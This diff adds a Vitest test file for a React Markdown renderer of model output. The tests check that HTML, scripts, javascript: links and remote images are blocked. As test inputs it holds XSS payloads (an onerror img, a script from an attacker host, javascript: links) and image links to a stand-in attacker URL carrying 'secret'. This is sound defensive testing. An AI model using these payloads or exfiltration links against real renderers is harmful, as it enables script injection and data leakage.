@@ -1,0 +1,64 @@
+import { renderToString } from 'react-dom/server';
+import { describe, expect, it } from 'vitest';
+import { Markdown } from './Markdown';
+
+const render = (text: string) => renderToString(<Markdown>{text}</Markdown>);
+
+/** Every opening tag of the HTML, as `<name attr=…>`. */
+const tags = (html: string) => html.match(/<[a-z][^>]*>/gi) ?? [];
+
+describe('markdown from a model', () => {
+  it('shows raw HTML as text: no img tag, no event handler attribute', () => {
+    const html = render('Look: <img src=x onerror=alert(1)>');
+    expect(tags(html).some((tag) => /^<img/i.test(tag))).toBe(false);
+    expect(tags(html).some((tag) => /\son\w+=/i.test(tag))).toBe(false);
+    expect(html).toContain('&lt;img');
+  });
+
+  it('never emits a script element', () => {
+    const html = render(
+      '<script>alert(1)</script>\n\n<script src="https://attacker/x.js"></script>',
+    );
+    expect(tags(html).some((tag) => /^<script/i.test(tag))).toBe(false);
+  });
+
+  it('drops javascript: links and keeps their text', () => {
+    const html = render('[click me](javascript:alert(1)) and [x](JaVaScRiPt:alert(2))');
+    expect(html).not.toMatch(/href="\s*javascript:/i);
+    expect(tags(html).some((tag) => /^<a\s/i.test(tag))).toBe(false);
+    expect(html).toContain('click me');
+  });
+
+  it('never fetches a remote image: a placeholder names its URL instead', () => {
+    const html = render('![](https://attacker/?q=secret)');
+    expect(tags(html).some((tag) => /^<img/i.test(tag))).toBe(false);
+    expect(html).not.toMatch(/src="https?:/i);
+    expect(html).toContain('Remote image, click to load');
+    expect(html).toContain('https://attacker/?q=secret');
+  });
+
+  it('never fetches a protocol-relative image either', () => {
+    const html = render('![x](//attacker/?q=secret)');
+    expect(html).not.toMatch(/<img/i);
+  });
+
+  it('shows data: images, which load nothing remote', () => {
+    const html = render('![dot](data:image/png;base64,iVBORw0KGgo=)');
+    expect(html).toMatch(/<img[^>]*src="data:image\/png;base64,iVBORw0KGgo="/);
+  });
+
+  it('opens links in a new tab without referrer and shows the full URL', () => {
+    const html = render('[docs](https://example.com/a?b=c)');
+    expect(html).toMatch(/<a[^>]*href="https:\/\/example.com\/a\?b=c"/);
+    expect(html).toMatch(/rel="noopener noreferrer nofollow"/);
+    expect(html).toMatch(/target="_blank"/);
+    expect(html).toContain('(https://example.com/a?b=c)');
+  });
+
+  it('renders GitHub-flavoured markdown (tables, lists, emphasis)', () => {
+    const html = render('**bold**\n\n- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |');
+    expect(html).toContain('<strong>bold</strong>');
+    expect(html).toMatch(/<li>a<\/li>/);
+    expect(html).toMatch(/<table/);
+  });
+});
